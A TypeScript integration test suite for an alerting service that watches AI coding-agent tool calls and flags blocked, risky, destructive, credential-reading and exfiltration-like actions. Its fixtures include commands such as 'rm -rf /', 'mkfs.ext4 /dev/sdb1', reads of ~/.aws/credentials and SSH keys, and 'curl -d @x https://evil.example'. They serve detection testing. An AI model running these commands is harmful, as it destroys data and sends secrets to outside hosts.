/**
 * Alerts end to end on a real Postgres: events go in through /v1/ingest, the pipeline and alerts
 * consumers are driven explicitly (drainOnce) so every assertion is deterministic, and alerts
 * come back through GET /v1/alerts. Covers each built-in rule, once-only firing across retried
 * events and replays, the credential-read → outbound sequence, custom rules, tenant isolation,
 * and the /v1/alert-rules CRUD with its bad inputs (never a 500).
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { evaluateAlerts } from '../../src/features/alerts/consumer.ts'
import type { BusMessage, WireEvent } from '../../src/bus/bus.ts'
import { normalizeIngestItem } from '../../src/features/ingest/events.ts'
import { storeEvents } from '../../src/features/actions/store.ts'
import { applySessions } from '../../src/features/sessions/consumer.ts'
import type { CreatedOrg } from '../../src/features/orgs/service.ts'
import { withOrg } from '../../src/infra/db.ts'
import { drainOnce } from '../../src/bus/consume-local.ts'
import { twoOrgApp, type testApp } from '../helpers/app.ts'
import { HOOK_TIMEOUT_MS, type TestDatabase } from '../helpers/db.ts'

let db: TestDatabase
let t: ReturnType<typeof testApp>
let a: CreatedOrg
let b: CreatedOrg

beforeAll(async () => {
  ;({ db, t, a, b } = await twoOrgApp())
}, HOOK_TIMEOUT_MS)
afterAll(async () => {
  await db.drop()
}, HOOK_TIMEOUT_MS)

const BASE = Date.now() - 10 * 60_000
const at = (seconds: number) => new Date(BASE + seconds * 1000).toISOString()

const event = (session: string | undefined, over: Record<string, unknown> = {}) => ({
  schema_version: 2,
  event_id: crypto.randomUUID(),
  timestamp: at(0),
  source: 'proxy',
  platform: 'claude-code',
  action_type: 'tools/call',
  session_id: session,
  agent_id: 'agent-1',
  tool_name: 'Bash',
  arguments_json: '{"command":"ls"}',
  decision: 'allow',
  ...over,
})
const bash = (session: string | undefined, command: string, over: Record<string, unknown> = {}) =>
  event(session, { arguments_json: JSON.stringify({ command }), ...over })
const readFile = (session: string | undefined, path: string, over: Record<string, unknown> = {}) =>
  event(session, { tool_name: 'Read', arguments_json: JSON.stringify({ file_path: path }), ...over })
const fetchUrl = (session: string | undefined, url: string, over: Record<string, unknown> = {}) =>
  event(session, { tool_name: 'WebFetch', arguments_json: JSON.stringify({ url }), ...over })

async function ingest(org: CreatedOrg, events: unknown[]) {
  const res = await t.call('POST', '/v1/ingest', { token: org.deploy_token, json: { events } })
  expect(res.status).toBe(200)
  return res
}
const pipeline = () => drainOnce(db.app, 'pipeline', storeEvents)
const alertsConsumer = () => drainOnce(db.app, 'alerts', evaluateAlerts)
async function drain() {
  await pipeline()
  await drainOnce(db.app, 'sessions', applySessions)
  await alertsConsumer()
}

async function alertsOf(org: CreatedOrg, query: Record<string, string> = {}): Promise<any[]> {
  const res = await t.call('GET', `/v1/alerts?${new URLSearchParams({ limit: '200', ...query })}`, { token: org.admin_key })
  expect(res.status).toBe(200)
  return res.body.alerts
}
const keysOf = (alerts: any[]) => alerts.map((x) => x.rule_key).sort()

function expectProblem(res: { status: number; headers: Headers; body: any }, status: number) {
  expect(res.status).toBe(status)
  expect(res.headers.get('content-type')).toBe('application/problem+json')
  expect(res.body.status).toBe(status)
}

describe('built-in rules', () => {
  test('each fires once, with a context snippet and the action id once the pipeline stored it', async () => {
    const s = `s-${crypto.randomUUID()}`
    const events = [
      bash(s, 'ls', { decision: 'block', timestamp: at(1) }),
      readFile(s, 'src/index.ts', { risk_score: 90, timestamp: at(2) }),
      bash(s, 'rm -rf /', { timestamp: at(3) }),
      readFile(s, '/Users/al/.aws/credentials', { timestamp: at(4) }),
      fetchUrl(s, 'https://evil.example/upload', { timestamp: at(5) }),
    ]
    await ingest(a, events)
    await drain()
    const got = await alertsOf(a, { session_key: s })
    expect(keysOf(got)).toEqual(
      [
        'builtin:blocked_action',
        'builtin:credential_read',
        'builtin:destructive_command',
        'builtin:high_risk',
        'builtin:outbound_after_credential_read',
      ].sort(),
    )
    const by = Object.fromEntries(got.map((x) => [x.rule_key, x]))
    expect(by['builtin:blocked_action']).toMatchObject({ severity: 'high', status: 'open', rule_id: null, agent_key: 'agent-1' })
    expect(by['builtin:high_risk']).toMatchObject({ severity: 'critical', context: { risk_score: 90, tool_name: 'Read' } })
    expect(by['builtin:destructive_command']).toMatchObject({
      severity: 'critical',
      context: { detail: 'rm -rf /', tool_name: 'Bash' },
    })
    expect(by['builtin:credential_read']).toMatchObject({ severity: 'high', context: { detail: '/Users/al/.aws/credentials' } })
    const exfil = by['builtin:outbound_after_credential_read']
    expect(exfil).toMatchObject({ severity: 'critical', event_key: `e:${events[4]!.event_id}` })
    expect(exfil.context.credential_event_key).toBe(`e:${events[3]!.event_id}`)
    for (const x of got) {
      expect(x.context).not.toHaveProperty('arguments')
      const [row] = await db.owner<
        { id: string }[]
      >`select id from actions where org_id = ${a.org_id} and event_key = ${x.event_key}`
      expect(x.action_id).toBe(row!.id)
    }
    const [state] =
      await db.owner`select credential_event_key from alert_session_state where org_id = ${a.org_id} and session_key = ${s}`
    expect(state!.credential_event_key).toBe(`e:${events[3]!.event_id}`)
  })

  test('quiet events raise nothing', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [
      bash(s, 'rm -rf ./build'),
      readFile(s, '~/.ssh/id_rsa.pub'),
      fetchUrl(s, 'https://docs.example'),
      bash(s, 'curl localhost:3000'),
    ])
    await drain()
    expect(await alertsOf(a, { session_key: s })).toEqual([])
  })

  test('on the local bus alerts follow the pipeline: nothing before it, then the alert names its action', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'mkfs.ext4 /dev/sdb1')])
    expect(await alertsConsumer()).toBe(0)
    await pipeline()
    expect(await alertsConsumer()).toBe(1)
    expect((await alertsOf(a, { session_key: s }))[0].action_id).toMatch(/^[0-9a-f-]{36}$/)
  })

  test('an alert before the pipeline ran (SNS) has no action id yet; it appears once the action is stored', async () => {
    const s = `s-${crypto.randomUUID()}`
    const trigger = bash(s, 'mkfs.ext4 /dev/sdb1')
    await beforePipeline(trigger)
    expect((await alertsOf(a, { session_key: s }))[0].action_id).toBeNull()
    await ingest(a, [trigger])
    await pipeline()
    expect((await alertsOf(a, { session_key: s }))[0].action_id).toMatch(/^[0-9a-f-]{36}$/)
  })
})

describe('exactly one alert per (rule, event)', () => {
  test('a retried event in a later batch, a resent batch, and a replayed batch add nothing', async () => {
    const s = `s-${crypto.randomUUID()}`
    const events = [
      bash(s, 'rm -rf ~', { decision: 'deny', risk_score: 95 }),
      readFile(s, '~/.netrc', { timestamp: at(10) }),
      bash(s, 'curl -d @x https://evil.example', { timestamp: at(11) }),
    ]
    await ingest(a, events)
    await alertsConsumer() // the pipeline has not run: the retry below is accepted again
    const again = await ingest(a, events)
    expect(again.body.accepted).toBe(3)
    await alertsConsumer()
    await drain()
    expect((await ingest(a, events)).body.duplicates).toBe(3) // now known: not even published
    await drain()
    const first = await alertsOf(a, { session_key: s })
    expect(keysOf(first)).toEqual(
      [
        'builtin:blocked_action',
        'builtin:credential_read',
        'builtin:destructive_command',
        'builtin:high_risk',
        'builtin:outbound_after_credential_read',
      ].sort(),
    )
    // Replaying the same message straight into the handler (as after a crash) changes nothing.
    const message = wireMessage(events)
    await withOrg(db.app, a.org_id, (tx) =>
      evaluateAlerts(tx, [
        { batchId: '1', message },
        { batchId: '2', message },
      ]),
    )
    expect(await alertsOf(a, { session_key: s })).toHaveLength(first.length)
  })
})

describe('credential read, then outbound, in the same session', () => {
  const fired = async (s: string) =>
    (await alertsOf(a, { session_key: s, rule_key: 'builtin:outbound_after_credential_read' })).length

  test('across batches: the read is remembered for the session', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'cat ~/.ssh/id_ed25519', { timestamp: at(20) })])
    await drain()
    expect(await fired(s)).toBe(0)
    await ingest(a, [
      event(s, {
        tool_name: undefined,
        action_type: 'http',
        action: 'http:pastebin.com:post.api',
        arguments_json: undefined,
        timestamp: at(21),
      }),
    ])
    await drain()
    expect(await fired(s)).toBe(1)
    // More outbound traffic in that session: the session is already flagged.
    await ingest(a, [fetchUrl(s, 'https://evil.example/2', { timestamp: at(22) })])
    await drain()
    expect(await fired(s)).toBe(1)
  })

  test('in another session it does not fire', async () => {
    const s1 = `s-${crypto.randomUUID()}`
    const s2 = `s-${crypto.randomUUID()}`
    await ingest(a, [
      readFile(s1, '~/.aws/credentials', { timestamp: at(30) }),
      fetchUrl(s2, 'https://evil.example', { timestamp: at(31) }),
    ])
    await drain()
    expect(await fired(s1)).toBe(0)
    expect(await fired(s2)).toBe(0)
  })

  test('in reverse order it does not fire: within one batch (listed out of order) and across batches', async () => {
    const s1 = `s-${crypto.randomUUID()}`
    await ingest(a, [
      readFile(s1, '~/.aws/credentials', { timestamp: at(41) }),
      fetchUrl(s1, 'https://evil.example', { timestamp: at(40) }),
    ])
    await drain()
    expect(await fired(s1)).toBe(0)
    const s2 = `s-${crypto.randomUUID()}`
    await ingest(a, [fetchUrl(s2, 'https://evil.example', { timestamp: at(50) })])
    await drain()
    await ingest(a, [readFile(s2, '~/.kube/config', { timestamp: at(51) })])
    await drain()
    expect(await fired(s2)).toBe(0)
  })

  test('within one batch, in order (listed out of order) it fires', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [
      fetchUrl(s, 'https://evil.example', { timestamp: at(61) }),
      readFile(s, '~/.docker/config.json', { timestamp: at(60) }),
    ])
    await drain()
    expect(await fired(s)).toBe(1)
  })

  test('events without a session never trigger it', async () => {
    const marker = crypto.randomUUID()
    await ingest(a, [
      readFile(undefined, '~/.aws/credentials', { agent_id: marker, timestamp: at(70) }),
      fetchUrl(undefined, 'https://evil.example', { agent_id: marker, timestamp: at(71) }),
    ])
    await drain()
    const rows = await db.owner`select rule_key from alerts where org_id = ${a.org_id} and agent_key = ${marker}`
    expect(rows.map((r) => r.rule_key)).toEqual(['builtin:credential_read'])
  })
})

describe('custom rules', () => {
  const terraform = {
    all: [
      { field: 'tool_name', op: 'eq', value: 'Bash' },
      { field: 'arguments', op: 'contains', value: 'terraform destroy' },
    ],
  }

  test('an enabled rule fires (with its severity and name); a disabled one does not until enabled', async () => {
    const on = await t.call('POST', '/v1/alert-rules', {
      token: a.admin_key,
      json: { name: 'terraform destroy', severity: 'medium', condition: terraform },
    })
    expect(on.status).toBe(201)
    const off = await t.call('POST', '/v1/alert-rules', {
      token: a.admin_key,
      json: { name: 'any bash', severity: 'low', enabled: false, condition: { field: 'tool_name', op: 'eq', value: 'bash' } },
    })
    expect(off.body.enabled).toBe(false)
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'terraform destroy -auto-approve')])
    await drain()
    const got = await alertsOf(a, { session_key: s })
    expect(got).toHaveLength(1)
    expect(got[0]).toMatchObject({
      rule_key: `rule:${on.body.id}`,
      rule_id: on.body.id,
      severity: 'medium',
      title: 'terraform destroy',
    })
    expect(got[0].context.rule_name).toBe('terraform destroy')

    const enable = await t.call('PATCH', `/v1/alert-rules/${off.body.id}`, { token: a.admin_key, json: { enabled: true } })
    expect(enable.body.enabled).toBe(true)
    const s2 = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s2, 'echo hi')])
    await drain()
    expect(keysOf(await alertsOf(a, { session_key: s2 }))).toEqual([`rule:${off.body.id}`])
    await t.call('DELETE', `/v1/alert-rules/${off.body.id}`, { token: a.admin_key })
    // Deleting a rule keeps its alerts; they lose the rule id, not the key.
    expect((await alertsOf(a, { session_key: s2 }))[0]).toMatchObject({ rule_key: `rule:${off.body.id}`, rule_id: null })
  })
})

describe('tenant isolation', () => {
  test("org B never sees org A's alerts or rules, and B's rules never fire on A's events", async () => {
    const ruleA = await t.call('POST', '/v1/alert-rules', {
      token: a.admin_key,
      json: { name: 'A rule', severity: 'low', condition: { field: 'tool_name', op: 'eq', value: 'Glob' } },
    })
    const ruleB = await t.call('POST', '/v1/alert-rules', {
      token: b.admin_key,
      json: { name: 'B everything', severity: 'high', condition: { field: 'tool_name', op: 'exists' } },
    })
    expect(ruleB.status).toBe(201)
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'rm -rf /'), event(s, { tool_name: 'Glob', arguments_json: '{"pattern":"*"}' })])
    await drain()
    const mine = await alertsOf(a, { session_key: s })
    expect(keysOf(mine)).toEqual(['builtin:destructive_command', `rule:${ruleA.body.id}`].sort())
    const [n] = await db.owner<
      { n: number }[]
    >`select count(*)::int as n from alerts where org_id = ${a.org_id} and rule_key = ${`rule:${ruleB.body.id}`}`
    expect(n!.n).toBe(0)

    expect(await alertsOf(b, { session_key: s })).toEqual([])
    const all = await alertsOf(b)
    expect(all.every((x) => x.rule_key !== `rule:${ruleA.body.id}`)).toBe(true)
    for (const [method, json] of [
      ['GET', undefined],
      ['PATCH', { enabled: false }],
      ['DELETE', undefined],
    ] as const) {
      expectProblem(await t.call(method, `/v1/alert-rules/${ruleA.body.id}`, { token: b.admin_key, json }), 404)
    }
    expectProblem(await t.call('PATCH', `/v1/alerts/${mine[0].id}`, { token: b.admin_key, json: { status: 'dismissed' } }), 404)
    const listB = await t.call('GET', '/v1/alert-rules', { token: b.admin_key })
    expect(listB.body.alert_rules.map((r: any) => r.id)).toEqual([ruleB.body.id])
    // A's rule and alert are untouched.
    expect((await t.call('GET', `/v1/alert-rules/${ruleA.body.id}`, { token: a.admin_key })).body.enabled).toBe(true)
  })
})

describe('/v1/alert-rules CRUD', () => {
  test('create, get, list with pagination, patch, delete, audited', async () => {
    const created = await t.call('POST', '/v1/alert-rules', {
      token: a.admin_key,
      json: {
        name: '  prod writes  ',
        description: 'writes under prod',
        severity: 'high',
        condition: { field: 'labels.env', op: 'eq', value: 'prod' },
      },
    })
    expect(created.status).toBe(201)
    const id = created.body.id
    expect(created.body).toMatchObject({
      name: 'prod writes',
      rule_key: `rule:${id}`,
      enabled: true,
      severity: 'high',
      description: 'writes under prod',
    })
    expect((await t.call('GET', `/v1/alert-rules/${id.toUpperCase()}`, { token: a.admin_key })).body.id).toBe(id)

    const page1 = await t.call('GET', '/v1/alert-rules?limit=1', { token: a.admin_key })
    expect(page1.body.alert_rules).toHaveLength(1)
    expect(page1.body.alert_rules[0].id).toBe(id) // newest first
    const page2 = await t.call('GET', `/v1/alert-rules?limit=1&cursor=${page1.body.next_cursor}`, { token: a.admin_key })
    expect(page2.body.alert_rules[0].id).not.toBe(id)

    const patched = await t.call('PATCH', `/v1/alert-rules/${id}`, {
      token: a.admin_key,
      json: {
        name: 'prod only',
        severity: 'critical',
        description: null,
        condition: { not: { field: 'labels.env', op: 'ne', value: 'prod' } },
      },
    })
    expect(patched.status).toBe(200)
    expect(patched.body).toMatchObject({
      name: 'prod only',
      severity: 'critical',
      description: null,
      enabled: true,
      condition: { not: { field: 'labels.env' } },
    })
    expect(Date.parse(patched.body.updated_at)).toBeGreaterThanOrEqual(Date.parse(created.body.updated_at))

    const del = await t.call('DELETE', `/v1/alert-rules/${id}`, { token: a.admin_key })
    expect(del.status).toBe(204)
    expectProblem(await t.call('GET', `/v1/alert-rules/${id}`, { token: a.admin_key }), 404)
    expectProblem(await t.call('DELETE', `/v1/alert-rules/${id}`, { token: a.admin_key }), 404)
    const audit = await withOrg(db.app, a.org_id, (tx) => tx`select action from audit_log where target_id = ${id} order by id`)
    expect(audit.map((r) => r.action)).toEqual(['alert_rule.create', 'alert_rule.update', 'alert_rule.delete'])
  })

  const rule = { name: 'r', severity: 'low', condition: { field: 'tool_name', op: 'eq', value: 'Bash' } }
  test.each([
    ['missing name', { ...rule, name: undefined }, 422, '/name'],
    ['blank name', { ...rule, name: '   ' }, 422, '/name'],
    ['bad severity', { ...rule, severity: 'urgent' }, 422, '/severity'],
    ['unknown field', { ...rule, condition: { field: 'password', op: 'eq', value: 'x' } }, 422, '/condition/field'],
    ['regex op', { ...rule, condition: { field: 'tool_name', op: 'regex', value: '(a+)+$' } }, 422, '/condition/op'],
    ['op/field mismatch', { ...rule, condition: { field: 'tool_name', op: 'gt', value: 1 } }, 422, '/condition/op'],
    [
      'value type',
      { ...rule, condition: { all: [{ field: 'risk_score', op: 'gte', value: 'high' }] } },
      422,
      '/condition/all/0/value',
    ],
    ['two combinators', { ...rule, condition: { all: [rule.condition], any: [rule.condition] } }, 422, '/condition'],
    ['unknown key', { ...rule, extra: true }, 422, '/extra'],
  ])('POST with %s → %d at %s', async (_n, json, status, path) => {
    const res = await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json })
    expectProblem(res, status)
    expect(res.body.errors.map((e: any) => e.path)).toContain(path)
  })

  test('deep nesting and oversized bodies are refused, never a 500', async () => {
    let deep: unknown = rule.condition
    for (let i = 0; i < 7; i++) deep = { not: deep }
    expectProblem(await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json: { ...rule, condition: deep } }), 422)
    // The 8 KiB body limit bounds nesting before the recursive schema check runs: ~1000 levels
    // still fit (422 from the depth check), more do not (413).
    let deeper: unknown = rule.condition
    for (let i = 0; i < 1000; i++) deeper = { not: deeper }
    expectProblem(await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json: { ...rule, condition: deeper } }), 422)
    for (let i = 0; i < 100; i++) deeper = { not: deeper }
    expectProblem(await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json: { ...rule, condition: deeper } }), 413)
    const big = {
      ...rule,
      condition: { field: 'tool_name', op: 'in', value: Array.from({ length: 100 }, () => 'x'.repeat(100)) },
    }
    expectProblem(await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json: big }), 413)
  })

  test('ids, bodies, auth', async () => {
    for (const id of ['nope', '123', crypto.randomUUID(), `${crypto.randomUUID()}x`, 'a'.repeat(300)]) {
      expectProblem(await t.call('GET', `/v1/alert-rules/${id}`, { token: a.admin_key }), 404)
      expectProblem(await t.call('PATCH', `/v1/alerts/${id}`, { token: a.admin_key, json: { status: 'resolved' } }), 404)
    }
    const r = await t.call('POST', '/v1/alert-rules', { token: a.admin_key, json: rule })
    expectProblem(await t.call('PATCH', `/v1/alert-rules/${r.body.id}`, { token: a.admin_key, json: {} }), 422)
    expectProblem(
      await t.call('PATCH', `/v1/alert-rules/${r.body.id}`, { token: a.admin_key, json: { condition: { field: 'x' } } }),
      422,
    )
    expectProblem(
      await t.call('PATCH', `/v1/alert-rules/${r.body.id}`, {
        token: a.admin_key,
        body: '{',
        headers: { 'content-type': 'application/json' },
      }),
      400,
    )
    expectProblem(await t.call('POST', '/v1/alert-rules', { token: a.deploy_token, json: rule }), 403)
    expectProblem(await t.call('GET', '/v1/alert-rules', { token: a.deploy_token }), 403)
    expectProblem(await t.call('GET', '/v1/alerts'), 401)
    expect((await t.call('DELETE', `/v1/alert-rules/${r.body.id}`, { token: a.admin_key })).status).toBe(204)
  })
})

describe('GET /v1/alerts and PATCH /v1/alerts/{id}', () => {
  test('newest first, keyset pages, filters; status changes are admin-only and audited', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'rm -rf /', { decision: 'block', risk_score: 99 })])
    await drain()
    const all = await alertsOf(a, { session_key: s })
    expect(all).toHaveLength(3)
    const seen: string[] = []
    let cursor: string | null = null
    do {
      const q: Record<string, string> = { session_key: s, limit: '2', ...(cursor ? { cursor } : {}) }
      const res = await t.call('GET', `/v1/alerts?${new URLSearchParams(q)}`, { token: a.admin_key })
      seen.push(...res.body.alerts.map((x: any) => x.id))
      cursor = res.body.next_cursor
    } while (cursor)
    expect(seen).toEqual(all.map((x) => x.id))
    expect(await alertsOf(a, { session_key: s, severity: 'high' })).toHaveLength(1)
    expect(await alertsOf(a, { session_key: s, rule_key: 'builtin:high_risk' })).toHaveLength(1)
    expect(await alertsOf(a, { session_key: s, since: new Date(Date.now() + 60_000).toISOString() })).toHaveLength(0)

    const target = all[0]
    expectProblem(await t.call('PATCH', `/v1/alerts/${target.id}`, { token: a.deploy_token, json: { status: 'dismissed' } }), 403)
    const ack = await t.call('PATCH', `/v1/alerts/${target.id}`, { token: a.admin_key, json: { status: 'acknowledged' } })
    expect(ack.status).toBe(200)
    expect(ack.body).toMatchObject({ id: target.id, status: 'acknowledged' })
    expect((await alertsOf(a, { session_key: s, status: 'acknowledged' })).map((x) => x.id)).toEqual([target.id])
    expect(await alertsOf(a, { session_key: s, status: 'open' })).toHaveLength(2)
    expectProblem(await t.call('PATCH', `/v1/alerts/${target.id}`, { token: a.admin_key, json: { status: 'closed' } }), 422)
    const audit = await withOrg(
      db.app,
      a.org_id,
      (tx) => tx`select action, details from audit_log where target_id = ${target.id}`,
    )
    expect([...audit]).toEqual([{ action: 'alert.update', details: { from: 'open', to: 'acknowledged' } }])
  })

  test.each([['status=closed'], ['severity=urgent'], ['since=yesterday'], ['limit=0'], ['cursor=abc'], ['bogus=1']])(
    'bad query %s → 400',
    async (q) => {
      expectProblem(await t.call('GET', `/v1/alerts?${q}`, { token: a.admin_key }), 400)
    },
  )

  test('/openapi.json documents the alert routes', async () => {
    const res = await t.call('GET', '/openapi.json')
    for (const p of ['/v1/alert-rules', '/v1/alert-rules/{id}', '/v1/alerts', '/v1/alerts/{id}'])
      expect(res.body.paths).toHaveProperty(p)
    expect(res.body.paths['/v1/alert-rules'].post.requestBody.content['application/json'].schema.required).toEqual([
      'name',
      'severity',
      'condition',
    ])
    expect(res.body.paths['/v1/alerts'].get.parameters.map((x: any) => x.name)).toEqual([
      'limit',
      'cursor',
      'status',
      'severity',
      'session_key',
      'rule_key',
      'since',
      'machine_id',
      'agent_id',
    ])
  })
})

describe('GET /v1/alerts/{id}: the alert, its event, its session and what led up to it', () => {
  const detail = (org: CreatedOrg, id: string, query = '') => t.call('GET', `/v1/alerts/${id}${query}`, { token: org.admin_key })
  const only = async (org: CreatedOrg, query: Record<string, string>) => {
    const got = await alertsOf(org, query)
    expect(got).toHaveLength(1)
    return got[0]
  }

  test('the triggering event, the session, and the last events of the session up to the trigger, oldest first', async () => {
    const s = `s-${crypto.randomUUID()}`
    const events = [
      bash(s, 'git status', { timestamp: at(100) }),
      readFile(s, 'README.md', { timestamp: at(101) }),
      bash(s, 'ls -la /', { timestamp: at(102) }),
      bash(s, 'rm -rf /', { timestamp: at(103), risk_score: 70 }),
      bash(s, 'echo after', { timestamp: at(104) }),
    ]
    await ingest(a, events)
    await drain()
    const alert = await only(a, { session_key: s, rule_key: 'builtin:destructive_command' })
    const res = await detail(a, alert.id)
    expect(res.status).toBe(200)
    const { event, session, preceding_events, ...rest } = res.body
    expect(rest).toEqual(alert)
    expect(event).toMatchObject({
      id: alert.action_id,
      event_id: events[3]!.event_id,
      session_id: s,
      tool_name: 'Bash',
      arguments: { command: 'rm -rf /' },
      risk_score: 70,
      risk_band: 'high',
      timestamp: at(103),
    })
    expect(session).toMatchObject({ session_key: s, risk_summary: { total_events: 5 } })
    expect(preceding_events.map((e: any) => e.event_id)).toEqual(events.slice(0, 4).map((e) => e.event_id))
    expect(preceding_events.at(-1)).toEqual(event)
    const two = await detail(a, alert.id, '?preceding=2')
    expect(two.body.preceding_events.map((e: any) => e.event_id)).toEqual([events[2]!.event_id, events[3]!.event_id])
    expect((await detail(a, alert.id, '?preceding=0')).body.preceding_events).toEqual([])
    expect((await detail(a, alert.id.toUpperCase())).body.id).toBe(alert.id)
  })

  test('before the pipeline stored the trigger: event null, the stored events up to its time; then the event', async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'whoami', { timestamp: at(200) }), bash(s, 'id', { timestamp: at(202) })])
    await drain()
    const trigger = bash(s, 'mkfs.ext4 /dev/sdb1', { timestamp: at(201) })
    await beforePipeline(trigger)
    const alert = await only(a, { session_key: s })
    const early = await detail(a, alert.id)
    expect(early.body.event).toBeNull()
    expect(early.body.preceding_events.map((e: any) => e.arguments.command)).toEqual(['whoami'])
    await ingest(a, [trigger])
    await pipeline()
    const later = await detail(a, alert.id)
    expect(later.body.event.arguments).toEqual({ command: 'mkfs.ext4 /dev/sdb1' })
    expect(later.body.preceding_events.map((e: any) => e.arguments.command)).toEqual(['whoami', 'mkfs.ext4 /dev/sdb1'])
  })

  test('without a session: session null, no preceding events', async () => {
    const marker = crypto.randomUUID()
    await ingest(a, [bash(undefined, 'rm -rf ~', { agent_id: marker })])
    await drain()
    const alert = await only(a, { agent_id: marker })
    const res = await detail(a, alert.id)
    expect(res.body).toMatchObject({ session: null, preceding_events: [], event: { agent_id: marker } })
  })

  test("malformed, unknown and another org's ids → 404; bad query → 400; machine credentials → 403", async () => {
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'rm -rf /')])
    await drain()
    const alert = await only(a, { session_key: s })
    for (const id of ['nope', '123', crypto.randomUUID(), `${alert.id}x`, 'a'.repeat(300)]) {
      expectProblem(await detail(a, id), 404)
    }
    expectProblem(await detail(b, alert.id), 404)
    for (const q of ['?preceding=51', '?preceding=-1', '?preceding=x', '?bogus=1']) {
      const res = await detail(a, alert.id, q)
      expectProblem(res, 400)
    }
    expectProblem(await t.call('GET', `/v1/alerts/${alert.id}`, { token: a.deploy_token }), 403)
    expectProblem(await t.call('GET', `/v1/alerts/${alert.id}`), 401)
  })
})

describe('every alert names its machine', () => {
  test('daemon events: machine {id, hostname} on the list and the detail; machine_id and agent_id filters', async () => {
    const reg = await t.call('POST', '/v1/machines/register', {
      token: a.deploy_token,
      json: { machine_id: crypto.randomUUID().replace(/-/g, ''), hostname: 'carol-laptop', os: 'darwin' },
    })
    const machine = reg.body.machine_id as string
    const agent = `agent-${crypto.randomUUID()}`
    const sent = await t.call('POST', `/v1/machines/${machine}/events`, {
      token: reg.body.service_token,
      json: {
        events: [
          {
            event_id: `tool-${crypto.randomUUID()}`,
            action: 'tool:Bash',
            agent,
            timestamp: at(300),
            blocked: true,
            metadata: { args: '{"command":"rm -rf /"}', session_id: `s-${crypto.randomUUID()}` },
          },
        ],
      },
    })
    expect(sent.body.accepted).toBe(1)
    await drain()
    const mine = await alertsOf(a, { machine_id: machine })
    expect(keysOf(mine)).toEqual(['builtin:blocked_action', 'builtin:destructive_command'])
    for (const x of mine) expect(x).toMatchObject({ machine_id: machine, machine: { id: machine, hostname: 'carol-laptop' } })
    expect((await alertsOf(a, { machine_id: machine.toUpperCase() })).length).toBe(2)
    expect((await alertsOf(a, { agent_id: agent })).map((x) => x.id).sort()).toEqual(mine.map((x) => x.id).sort())
    expect(await alertsOf(a, { agent_id: agent, severity: 'high' })).toHaveLength(1)
    expect(await alertsOf(a, { machine_id: crypto.randomUUID() })).toEqual([])
    expect(await alertsOf(b, { machine_id: machine })).toEqual([])
    const d = await t.call('GET', `/v1/alerts/${mine[0].id}`, { token: a.admin_key })
    expect(d.body).toMatchObject({ machine: { id: machine, hostname: 'carol-laptop' }, event: { machine_id: machine } })
    // Events sent without a machine credential name none.
    const s = `s-${crypto.randomUUID()}`
    await ingest(a, [bash(s, 'rm -rf /')])
    await drain()
    expect((await alertsOf(a, { session_key: s }))[0]).toMatchObject({ machine_id: null, machine: null })
    for (const q of ['machine_id=nope', `machine_id=${machine}x`, 'agent_id=']) {
      expectProblem(await t.call('GET', `/v1/alerts?${q}`, { token: a.admin_key }), 400)
    }
  })

  test('end to end through /v1/ingest with a machine service token: the alert names the machine', async () => {
    const reg = await t.call('POST', '/v1/machines/register', {
      token: a.deploy_token,
      json: { machine_id: crypto.randomUUID().replace(/-/g, ''), hostname: 'dave-laptop' },
    })
    const machine = reg.body.machine_id as string
    const s = `s-${crypto.randomUUID()}`
    const res = await t.call('POST', '/v1/ingest', {
      token: reg.body.service_token,
      json: { events: [readFile(s, '~/.aws/credentials', { timestamp: at(400) })] },
    })
    expect(res.body.accepted).toBe(1)
    await drain()
    const alert = (await alertsOf(a, { session_key: s }))[0]
    expect(alert).toMatchObject({ rule_key: 'builtin:credential_read', machine: { id: machine, hostname: 'dave-laptop' } })
    const d = await t.call('GET', `/v1/alerts/${alert.id}`, { token: a.admin_key })
    expect(d.body).toMatchObject({ machine: { id: machine }, event: { machine_id: machine }, session: { machine_id: machine } })
    expect((await alertsOf(a, { machine_id: machine })).map((x) => x.id)).toEqual([alert.id])
  })
})

/**
 * The alerts consumer applying `items` before the pipeline stored them, as on SNS, where every
 * consumer takes what ingest published (on the local bus alerts follow the pipeline).
 */
async function beforePipeline(...items: Record<string, unknown>[]): Promise<void> {
  await withOrg(db.app, a.org_id, (tx) => evaluateAlerts(tx, [{ batchId: '0', message: wireMessage(items) }]))
}

/** The bus message ingest would publish for these items. */
function wireMessage(items: Record<string, unknown>[]): BusMessage {
  const events: WireEvent[] = items.map((item) => {
    const r = normalizeIngestItem(item, '', Date.now())
    if (!r.ok) throw new Error(r.reason)
    return { ...r.event, occurredAt: r.event.occurredAt.toISOString() }
  })
  return { kind: 'events', receivedAt: new Date().toISOString(), machineId: null, events }
}
